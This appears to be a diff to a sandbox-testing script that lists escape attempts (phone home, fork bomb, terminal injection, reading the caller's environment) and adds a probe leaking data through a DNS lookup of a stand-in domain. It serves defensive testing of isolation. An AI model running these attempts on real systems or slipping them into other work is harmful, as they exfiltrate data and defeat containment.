@@ -21,6 +21,9 @@ CLONE_NEWUSER = 0x10000000
 TIOCSTI = 0x5412
 PTRACE_ATTACH = 16
 
+CODES = {**errno.errorcode, socket.EAI_NONAME: 'EAI_NONAME',
+         socket.EAI_AGAIN: 'EAI_AGAIN'}
+
 libc = ctypes.CDLL(None, use_errno=True)
 
 
@@ -57,6 +60,11 @@ def reach_out():
     """An address that belongs to nobody (RFC 5737), should a wall be down."""
     with socket.create_connection(('192.0.2.1', 80), 2):
         return 'connected'
+
+
+def ask_for_a_name():
+    """Whoever serves that domain would read the first label."""
+    socket.getaddrinfo('my-secret.example.net', 443)
 
 
 def fork_bomb():
@@ -115,6 +123,7 @@ ATTEMPTS = {
     'overwrite a file outside': overwrite,
     'phone home': phone_home,
     'reach another machine': reach_out,
+    'leak by a name': ask_for_a_name,
     'fork-bomb': fork_bomb,
     'type into the terminal': inject,
     'read the caller\'s environment': spy,
@@ -130,7 +139,7 @@ def main():
         try:
             line.update(worked=True, detail=str(attempt() or ''))
         except OSError as e:
-            line['errno'] = errno.errorcode.get(e.errno, str(e.errno))
+            line['errno'] = CODES.get(e.errno, str(e.errno))
             line['detail'] = e.strerror or str(e)
         print(json.dumps(line), flush=True)
 
